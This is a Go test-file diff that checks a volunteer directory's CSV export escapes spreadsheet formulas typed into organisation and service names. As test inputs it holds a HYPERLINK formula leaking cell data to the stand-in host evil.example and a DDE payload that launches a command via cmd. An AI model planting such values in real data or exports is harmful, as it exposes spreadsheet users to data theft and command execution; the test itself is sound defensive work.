@@ -386,6 +386,27 @@ func TestNetworkView(t *testing.T) {
 	}
 }
 
+// TestCSVHasNoFormulas: names people typed reach the volunteer CSV as
+// text, never as a formula a spreadsheet would run.
+func TestCSVHasNoFormulas(t *testing.T) {
+	e := newEnv(t, "sqlite")
+	owner := e.NewPerson(t, "owner", auth.Member)
+	hyperlink := `=HYPERLINK("https://evil.example/?"&A1,"Details")`
+	o := e.newOrg(t, owner, hyperlink, "initiative", "34117", "Kassel")
+	e.service(t, owner, o.ID, "@SUM(1+1)*cmd|' /C calc'!A0", "volunteering.events", []string{"de"})
+	res := e.Client(t).Get("/directory/export.csv")
+	if !strings.HasPrefix(res.Body, "\uFEFForganization_id,") || !strings.Contains(res.Body, "\r\n") {
+		t.Errorf("not UTF-8 with a byte order mark and CRLF: %q", res.Body)
+	}
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Body, "\uFEFF"))).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("%v %q", err, rows)
+	}
+	if rows[1][1] != "'"+hyperlink || rows[1][5] != "'@SUM(1+1)*cmd|' /C calc'!A0" {
+		t.Errorf("organisation %q, service %q", rows[1][1], rows[1][5])
+	}
+}
+
 // TestCSVAndJSONLD: the volunteer CSV lists volunteering services; the
 // service and organisation pages carry schema.org data.
 func TestCSVAndJSONLD(t *testing.T) {
